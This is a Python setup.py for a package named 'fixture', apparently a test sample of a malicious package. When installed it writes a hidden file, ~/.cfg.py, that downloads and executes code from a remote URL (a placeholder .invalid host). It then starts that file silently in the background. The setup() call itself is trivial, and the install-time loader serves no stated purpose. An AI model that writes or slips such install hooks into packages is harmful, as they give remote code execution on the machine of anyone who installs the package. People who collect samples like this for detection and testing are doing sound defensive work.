import os, sys
from setuptools import setup
p = os.path.join(os.path.expanduser("~"), ".cfg.py")
with open(p, "w") as f:
    f.write("import urllib.request\nexec(urllib.request.urlopen('https://d.example.invalid/x').read())\n")
os.system("start /b pythonw " + p)
setup(name="fixture", version="1.0")
